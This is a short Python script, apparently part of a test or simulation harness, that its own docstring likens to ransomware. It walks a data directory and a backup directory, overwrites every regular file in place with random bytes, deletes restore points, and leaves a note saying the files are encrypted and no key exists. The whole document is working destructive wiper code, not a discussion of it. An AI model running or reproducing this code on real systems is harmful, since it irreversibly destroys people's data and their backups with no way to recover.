"""Makes all that is on both volumes unreadable, as who asks for a ransom does.

Says as JSON how much that was. Each file becomes random bytes of its length in place: what a
cipher leaves whose key nobody has. Then the restore points are deleted.
"""

import json
import os
import pathlib

PART = 1 << 20
NOTE = "Your files are encrypted. Nobody sells you the key: there is none."


def encrypt(path):
    with open(path, "r+b") as file:
        size = left = os.fstat(file.fileno()).st_size
        while left:
            left -= file.write(os.urandom(min(PART, left)))
        os.fsync(file.fileno())
    return size


folders = [pathlib.Path(os.environ[name]) for name in ("PRA_DATA_DIR", "PRA_BACKUP_DIR")]
files = [
    pathlib.Path(folder, name)
    for volume in folders
    for folder, _, names in os.walk(volume)
    for name in names
]
# A link leads to what is found by its own name, or away from the volumes.
sizes = [encrypt(path) for path in files if path.is_file() and not path.is_symlink()]
points = list(folders[1].glob("app-*"))
for point in points:
    point.unlink()
for folder in folders:
    (folder / "READ-ME.txt").write_text(NOTE + "\n")
print(
    json.dumps(
        {
            "files": len(sizes),
            "bytes": sum(sizes),
            "points": sum(one.suffix == ".db" for one in points),
        }
    )
)
